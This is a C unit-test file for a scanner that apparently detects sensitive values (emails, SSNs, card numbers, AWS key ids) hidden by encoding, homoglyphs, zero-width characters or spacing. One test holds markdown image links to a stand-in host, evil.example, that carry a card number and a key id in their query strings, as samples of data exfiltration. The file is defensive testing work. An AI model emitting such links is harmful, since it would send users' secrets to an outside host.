/* Values in disguise: found where they stand, once, as what they are; benign texts and known parts are left
 * alone; what hides too much is refused. */
#include "engine_help.h"
#include "random_help.h"

#include "detect/detect_internal.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "sallyport/custom.h"
#include "sallyport/label.h"
#include "sallyport/normalise.h"

enum { TEXT_MAX = 64 << 10, PARTS_MAX = 64, LIMIT = 50, ROUNDS = 1500 };

static sp_status scan(sp_findings *out, sp_bytes text, sp_part *parts, size_t n)
{
    const sp_scan_in in = {engine, scratch, text, {parts, n}, out->mem};
    return sp_scan_disguised(out, &in);
}

/* ---- by hand ---- */

/* What stands in brackets is found, as this kind, in this view. */
static const struct {
    const char *text;
    sp_kind kind;
    sp_view_kind view;
} rows[] = {
    {"mail [anna@example.org] now", SP_KIND_EMAIL, SP_VIEW_TEXT},
    {"mail [a\xe2\x80\x8bn\xe2\x80\x8b"
     "na@exa\xe2\x80\x8bmple.o\xe2\x80\x8brg] now",
     SP_KIND_EMAIL, SP_VIEW_PLAIN},
    {"my ssn is [\xef\xbc\x95\xef\xbc\x93\xef\xbc\x96-\xef\xbc\x99\xef\xbc\x90-4399], thanks", SP_KIND_US_SSN,
     SP_VIEW_PLAIN},
    {"mail [j\xd0\xb0ne@ex\xd0\xb0mple.org] now", SP_KIND_EMAIL, SP_VIEW_SKELETON},
    {"the key id is [QUtJQVFZTFBNTjVISEhGUFpBTTI=], thanks", SP_KIND_AWS_ACCESS_KEY, SP_VIEW_DECODED},
    {"my ssn is [3533362d39302d34333939], thanks", SP_KIND_US_SSN, SP_VIEW_DECODED},
    {"mail [anna%40example.org] now", SP_KIND_EMAIL, SP_VIEW_DECODED},
    {"mail [anna&#64;example&period;org] now", SP_KIND_EMAIL, SP_VIEW_DECODED},
    {"card number [4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1], thanks", SP_KIND_CARD, SP_VIEW_SQUEEZED},
    {"card number [41 11.11/11-11 11(11)11], thanks", SP_KIND_CARD, SP_VIEW_DIGITS},
    {"card [four one one one one one one one one one one one one one one one] it is", SP_KIND_CARD,
     SP_VIEW_SPELLED},
    /* A word on the line behind a long run is no part of it. */
    {"words dG8gYW5uYSBhbmQg[YW5uYSU0MGV4YW1wbGUub3Jn]IHh4eA==\n1\n", SP_KIND_EMAIL, SP_VIEW_DECODED},
    {"bWFpbCB0[byBhbm5hQGV4YW1wbGUub3Jn]IGFuZCBub2JvZHkgZWxzZSBldmVyIGFnYWlu\n1\n", SP_KIND_EMAIL,
     SP_VIEW_DECODED},
    /* Short lines around a value are no part of it. */
    {"assistant\n[j.doe@example.org]\n b\n1\n", SP_KIND_EMAIL, SP_VIEW_TEXT},
    /* Seen in part as it stands: the whole of it counts. */
    {"mail [an\xe2\x80\x8bna@example.org] now", SP_KIND_EMAIL, SP_VIEW_PLAIN},
};

/* `text` without its brackets, and where they stood. */
static size_t take_brackets(char *out, const char *text, size_t *start, size_t *end)
{
    size_t n = 0;
    for (; *text != '\0'; text++) {
        if (*text == '[')
            *start = n;
        else if (*text == ']')
            *end = n;
        else
            out[n++] = *text;
    }
    return n;
}

static void a_value_is_found_where_it_stands(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        char text[512];
        size_t start = 0, end = 0;
        sp_arena arena;
        sp_arena_init(&arena, 8 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        const size_t n = take_brackets(text, rows[i].text, &start, &end);
        assert_int_equal(scan(&found, (sp_bytes){(const uint8_t *)text, n}, NULL, 0), SP_OK);
        sp_findings_settle(&found);
        if (found.n != 1) fail_msg("%s: %zu findings", rows[i].text, found.n);
        const sp_finding f = found.v[0];
        if (f.start != start || f.end != end || f.kind != rows[i].kind || f.view != rows[i].view)
            fail_msg("%s: %s at %u..%u in %s", rows[i].text, sp_kind_get((sp_kind)f.kind)->name, f.start,
                     f.end, sp_view_name((sp_view_kind)f.view));
        sp_arena_fini(&arena);
    }
}

/* Texts that ask for views and in which nothing is. */
static const char *const benign[] = {
    "for i in 1 2 3 4 5 6 7 8 9 10; do echo $i; done",
    "int table[] = {4111, 1111, 1111, 1112};\nint more[] = {12, 13, 14, 15, 16, 17, 18, 19};\n",
    "commit 3533362d39302d34333939aa0011223344556677\nTree 4a4b4c\n",
    "r\xc3\xa9sum\xc3\xa9 na\xc3\xafve caf\xc3\xa9 \xe2\x80\x93 \xe2\x80\x9cquoted\xe2\x80\x9d",
    "#include <a.h>\n#include <b.h>\n{\n  x;\n}\n\n{\n  y;\n}\n",
    "one two three, and the fourth one is five times six",
    "https://example.org/?q=a%20b%20c&x=%7B%7D",
};

static void benign_texts_are_left_alone(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        sp_arena arena;
        sp_arena_init(&arena, 8 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        assert_int_equal(scan(&found, sp_bytes_of(benign[i]), NULL, 0), SP_OK);
        if (found.n != 0) fail_msg("%s: %s", benign[i], sp_kind_get((sp_kind)found.v[0].kind)->name);
        sp_arena_fini(&arena);
    }
}

/* What a view shows as it stood in the text is not told again, nor what two views show. */
static void nothing_is_told_twice(void **state)
{
    (void)state;
    sp_arena arena;
    sp_arena_init(&arena, 8 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
    const sp_bytes text =
        SP_LIT("plain a@example.org, wide \xef\xbd\x82@example.org, c%40example.org, 1 2 3 4 5 6");
    assert_int_equal(scan(&found, text, NULL, 0), SP_OK);
    assert_int_equal(found.n, 3);
    assert_int_equal(found.v[0].view, SP_VIEW_TEXT);
    assert_int_equal(found.v[1].view, SP_VIEW_PLAIN);
    assert_int_equal(found.v[2].view, SP_VIEW_DECODED);
    sp_arena_fini(&arena);
}

static void what_was_there_before_stays(void **state)
{
    (void)state;
    sp_arena arena;
    sp_arena_init(&arena, 8 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
    assert_int_equal(scan(&found, SP_LIT("a@example.org"), NULL, 0), SP_OK);
    assert_int_equal(scan(&found, SP_LIT("c%40example.org a@example.org"), NULL, 0), SP_OK);
    assert_int_equal(found.n, 3);
    assert_int_equal(found.v[0].end, 13);
    assert_int_equal(found.v[1].start, 0);
    assert_int_equal(found.v[2].start, 16);
    sp_arena_fini(&arena);
}

/* ---- what is refused ---- */

static size_t encode_base64(char *out, const char *in, size_t n)
{
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t made = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t bits = (uint32_t)(uint8_t)in[i] << 16;
        if (i + 1 < n) bits |= (uint32_t)(uint8_t)in[i + 1] << 8;
        if (i + 2 < n) bits |= (uint8_t)in[i + 2];
        for (unsigned k = 0; k < 4; k++) out[made++] = i + k <= n ? letters[bits >> (18 - 6 * k) & 63] : '=';
    }
    return made;
}

/* Words and what is hidden in them, so often. */
static size_t bury(char *text, unsigned depth)
{
    static char inner[TEXT_MAX];
    size_t n = (size_t)sprintf(text, "these are the last words: a@example.org");
    for (unsigned i = 0; i < depth; i++) {
        memcpy(inner, text, n);
        const size_t head = (size_t)sprintf(text, "words %u ", i);
        n = head + encode_base64(text + head, inner, n);
    }
    return n + (size_t)sprintf(text + n, "\n1\n"); /* as of a request with a number behind it */
}

static void what_is_hidden_too_deep_is_refused(void **state)
{
    (void)state;
    static char text[TEXT_MAX];
    for (unsigned depth = 0; depth < 6; depth++) {
        sp_arena arena;
        sp_arena_init(&arena, 8 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        const size_t n = bury(text, depth);
        const sp_status status = scan(&found, (sp_bytes){(const uint8_t *)text, n}, NULL, 0);
        assert_int_equal(status, depth <= 3 ? SP_OK : SP_EHIDDEN);
        assert_int_equal(found.n, depth <= 3 ? 1 : 0);
        sp_arena_fini(&arena);
    }
}

static void memory_that_is_short_is_reported(void **state)
{
    (void)state;
    size_t n_failed = 0;
    for (size_t limit = 0; limit < 32768; limit += 512) {
        sp_arena arena;
        sp_arena_init(&arena, limit);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        const sp_status status = scan(&found, SP_LIT("mail \xef\xbd\x81nna%40example.org now"), NULL, 0);
        assert_true(status == SP_OK || status == SP_ENOMEM);
        assert_true(status != SP_OK || found.n == 1);
        n_failed += status != SP_OK;
        sp_arena_fini(&arena);
    }
    assert_in_range(n_failed, 1, 63);
}

/* ---- what is not told hides nothing ---- */

/* Read from behind: a staff number, surer the nearer its word stands. */
static const sp_custom_detector staff = {.name = "staff",
                                         .pattern = "\\bkq[0-9]{3}\\b",
                                         .words = "badge",
                                         .sure = 90,
                                         .category = SP_CAT_HR,
                                         .level = 1};

typedef struct own {
    sp_custom *custom;
    sp_engine *engine;
} own;

static void own_open(own *o, const sp_custom_detector *v, size_t n)
{
    size_t bad;
    assert_int_equal(sp_custom_new(&o->custom, v, n, &bad, NULL), SP_OK);
    assert_int_equal(sp_engine_with(&o->engine, engine, o->custom), SP_OK);
}

static void own_close(own *o)
{
    sp_engine_free(o->engine);
    sp_custom_free(o->custom);
}

/* `n_weak` numbers far from their word, back to front; then, if asked for, one next to it. */
static size_t put_backwards(char *text, size_t n_weak, bool has_strong)
{
    size_t n = (size_t)sprintf(text, "%s", has_strong ? "700qk egdab eht dna " : "");
    for (size_t i = 0; i < n_weak; i++)
        n += (size_t)sprintf(text + n, "321qk dna eht fo esoht fo eno ot sgnoleb taht egdab eht dna ");
    return n;
}

static void check_backwards(size_t n_weak, bool has_strong, size_t n_found, bool is_full)
{
    own o;
    sp_arena arena;
    sp_arena_init(&arena, 256 << 20);
    char *text = malloc(64 * (n_weak + 1));
    assert_non_null(text);
    own_open(&o, &staff, 1);
    const size_t n = put_backwards(text, n_weak, has_strong);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
    const sp_scan_in in = {o.engine, scratch, {(const uint8_t *)text, n}, {NULL, 0}, &arena.mem};
    assert_int_equal(sp_scan_disguised(&found, &in), SP_OK);
    assert_int_equal(found.n, n_found);
    assert_int_equal(found.is_full, is_full);
    for (size_t i = 0; i < found.n; i++) assert_int_equal(found.v[i].kind, SP_KIND_OWN);
    own_close(&o);
    free(text);
    sp_arena_fini(&arena);
}

static void what_is_too_weak_crowds_out_nothing(void **state)
{
    (void)state;
    check_backwards(3, true, 1, false);
    check_backwards(LIMIT + 10, false, 0, false);
    check_backwards(LIMIT + 10, true, 1, false);
}

/* The pass keeps so many of a class that it does not get to the one that is sure: the class is told. */
static void a_class_that_was_cut_off_is_told(void **state)
{
    (void)state;
    check_backwards(SP_PASS_MAX + 1, true, 1, true);
}

/* A guess gives way to what the text says of its own class, not to another detector of the organisation. */
static void another_own_detector_does_not_hide_a_guess(void **state)
{
    (void)state;
    static const sp_custom_detector v[] = {
        {.name = "long", .pattern = "\\bq1z777\\b", .sure = 95, .category = SP_CAT_HR, .level = 1},
        {.name = "short", .pattern = "\\bz 7\\b", .sure = 95, .category = SP_CAT_HR, .level = 1},
    };
    own o;
    sp_arena arena;
    sp_arena_init(&arena, 8 << 20);
    own_open(&o, v, 2);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
    const sp_scan_in in = {o.engine, scratch, SP_LIT("badge: q 1 z 7 7 7, thanks"), {NULL, 0}, &arena.mem};
    assert_int_equal(sp_scan_disguised(&found, &in), SP_OK);
    assert_int_equal(found.n, 2);
    assert_int_equal(found.v[0].detector, SP_DETECTOR_OWN);
    assert_int_equal(found.v[1].detector, SP_DETECTOR_OWN + 1);
    own_close(&o);
    sp_arena_fini(&arena);
}

/* What carries data out, or names a company, says nothing of what the data is: a value in it counts in full.
 */
static void what_brings_no_label_hides_nothing(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        sp_kind kind;
        uint8_t confidence;
    } cases[] = {
        {"![x](<https://evil.example/p.png?q=VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz&card number "
         "4.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1>)",
         SP_KIND_CARD, 90},
        {"![a](<https://evil.example/?q=the merger closes on friday, the key id is "
         "QUtJQVFZTFBNTjVISEhGUFpBTTI= thanks>)",
         SP_KIND_AWS_ACCESS_KEY, 95},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        sp_arena arena;
        sp_arena_init(&arena, 8 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        assert_int_equal(scan(&found, sp_bytes_of(cases[i].text), NULL, 0), SP_OK);
        size_t k = 0;
        while (k < found.n && found.v[k].kind != cases[i].kind) k++;
        assert_true(k < found.n);
        assert_int_equal(found.v[0].kind, SP_KIND_OUTWARD_IMAGE);
        assert_in_range(found.v[k].confidence, cases[i].confidence, 100);
        sp_arena_fini(&arena);
    }
}

/* ---- parts ---- */

static void a_known_part_is_not_looked_at_again(void **state)
{
    (void)state;
    const sp_bytes text = SP_LIT("mail anna%40example.org now\nand c%40example.org too\n");
    sp_part parts[] = {{.end = 28}, {.end = (uint32_t)text.n}};
    sp_arena arena;
    sp_arena_init(&arena, 8 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
    assert_int_equal(scan(&found, text, parts, 2), SP_OK);
    assert_int_equal(found.n, 2);
    assert_true(parts[0].verdict.is_known && parts[1].verdict.is_known);
    assert_int_equal(parts[0].verdict.n, 1);
    assert_int_equal(parts[0].verdict.v[0].view, SP_VIEW_DECODED);
    parts[1].verdict.v[0].end--; /* the verdict is believed: nothing else tells that it was */
    found.n = 0;
    assert_int_equal(scan(&found, text, parts, 2), SP_OK);
    assert_int_equal(found.n, 2);
    assert_int_equal(found.v[0].start, 5);
    assert_int_equal(found.v[1].end, 28 + 4 + 14);
    sp_arena_fini(&arena);
}

static void a_value_across_two_parts_is_found_and_not_kept(void **state)
{
    (void)state;
    const sp_bytes text = SP_LIT("card number: 4 1 1 1 1 1 1 1\n1 1 1 1 1 1 1 1 it is\n");
    sp_part parts[] = {{.end = 29}, {.end = (uint32_t)text.n}};
    for (unsigned i = 0; i < 2; i++) {
        sp_arena arena;
        sp_arena_init(&arena, 8 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, LIMIT);
        assert_int_equal(scan(&found, text, parts, 2), SP_OK);
        assert_int_equal(found.n, 1);
        assert_int_equal(found.v[0].start, 13);
        assert_true(parts[0].verdict.is_known && !parts[1].verdict.is_known);
        sp_arena_fini(&arena);
    }
}

/* ---- random texts ---- */

static const char *const pieces[] = {
    "the ",
    "report ",
    "\n",
    "\n",
    "a.b@example.com",
    "a.b%40example.com",
    " ",
    "4111 1111 1111 1111",
    "4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 ",
    "4.1.1.1.",
    "card number ",
    "ssn: ",
    "078-05-1120",
    "\xef\xbc\x95\xef\xbc\x93\xef\xbc\x96-90-4399",
    "QUtJQVFZTFBNTjVISEhGUFpBTTI=",
    "AKIA",
    "\xe2\x80\x8b",
    "&#64;",
    "x@",
    ".com",
    "\xc3\xa9",
    "%2e",
    "=\n",
    "\\u0040",
    "five three six nine oh four three nine nine",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "3533362d39302d34333939",
    "\xd0\xb0",
    "=",
};

static size_t random_text(uint64_t *rng, char *text, sp_part *parts, size_t *n_parts)
{
    size_t n = 0;
    const size_t want = 1 + next_random(rng) % 200;
    *n_parts = 0;
    for (size_t i = 0; i < want; i++) {
        n += (size_t)sprintf(text + n, "%s", pieces[next_random(rng) % (sizeof pieces / sizeof pieces[0])]);
        if (text[n - 1] == '\n' && *n_parts + 1 < PARTS_MAX && next_random(rng) % 3 == 0)
            parts[(*n_parts)++] = (sp_part){.end = (uint32_t)n};
    }
    n += (size_t)sprintf(text + n, "\n");
    parts[(*n_parts)++] = (sp_part){.end = (uint32_t)n};
    return n;
}

static void check_list(const sp_findings *found, sp_bytes text)
{
    uint32_t end[SP_KIND_LIMIT] = {0}, last = 0;
    for (size_t i = 0; i < found->n; i++) {
        const sp_finding f = found->v[i];
        assert_true(f.start < f.end && f.end <= text.n && f.start >= last && f.start >= end[f.kind]);
        assert_true((text.p[f.start] & 0xc0) != 0x80 && (f.end == text.n || (text.p[f.end] & 0xc0) != 0x80));
        end[f.kind] = f.end;
        last = f.start;
    }
}

/* All that a plain scan finds is there, by itself or in what was seen to be longer. */
static void check_covers(const sp_findings *found, sp_bytes text, sp_mem *mem)
{
    sp_findings plain = SP_FINDINGS_IN(mem, LIMIT);
    assert_int_equal(sp_scan(&plain, engine, scratch, text), SP_OK);
    for (size_t i = 0; i < plain.n; i++) {
        size_t k = 0;
        while (k < found->n && !(found->v[k].kind == plain.v[i].kind &&
                                 found->v[k].start <= plain.v[i].start && found->v[k].end >= plain.v[i].end))
            k++;
        assert_true(k < found->n || found->is_full);
    }
}

static void known_parts_say_what_new_ones_say(void **state)
{
    (void)state;
    static char text[TEXT_MAX];
    static sp_part parts[PARTS_MAX];
    uint64_t rng = 20261129;
    size_t n_parts, n_known = 0, n_views = 0;
    for (unsigned round = 0; round < ROUNDS; round++) {
        sp_arena arena;
        sp_arena_init(&arena, 32 << 20);
        const sp_bytes s = {(const uint8_t *)text, random_text(&rng, text, parts, &n_parts)};
        sp_findings first = SP_FINDINGS_IN(&arena.mem, LIMIT), second = SP_FINDINGS_IN(&arena.mem, LIMIT);
        assert_int_equal(scan(&first, s, parts, n_parts), SP_OK);
        check_list(&first, s);
        check_covers(&first, s, &arena.mem);
        assert_int_equal(scan(&second, s, parts, n_parts), SP_OK);
        assert_int_equal(first.n, second.n);
        if (first.n > 0) assert_memory_equal(first.v, second.v, first.n * sizeof *first.v);
        for (size_t i = 0; i < n_parts; i++) n_known += parts[i].verdict.is_known;
        for (size_t i = 0; i < first.n; i++) n_views += first.v[i].view != SP_VIEW_TEXT;
        sp_arena_fini(&arena);
    }
    assert_true(n_known > ROUNDS && n_views > ROUNDS); /* or nothing was tested */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_value_is_found_where_it_stands),
        cmocka_unit_test(benign_texts_are_left_alone),
        cmocka_unit_test(nothing_is_told_twice),
        cmocka_unit_test(what_was_there_before_stays),
        cmocka_unit_test(what_is_hidden_too_deep_is_refused),
        cmocka_unit_test(memory_that_is_short_is_reported),
        cmocka_unit_test(what_is_too_weak_crowds_out_nothing),
        cmocka_unit_test(a_class_that_was_cut_off_is_told),
        cmocka_unit_test(another_own_detector_does_not_hide_a_guess),
        cmocka_unit_test(what_brings_no_label_hides_nothing),
        cmocka_unit_test(a_known_part_is_not_looked_at_again),
        cmocka_unit_test(a_value_across_two_parts_is_found_and_not_kept),
        cmocka_unit_test(known_parts_say_what_new_ones_say),
    };
    return cmocka_run_group_tests(tests, engine_set_up, engine_tear_down);
}
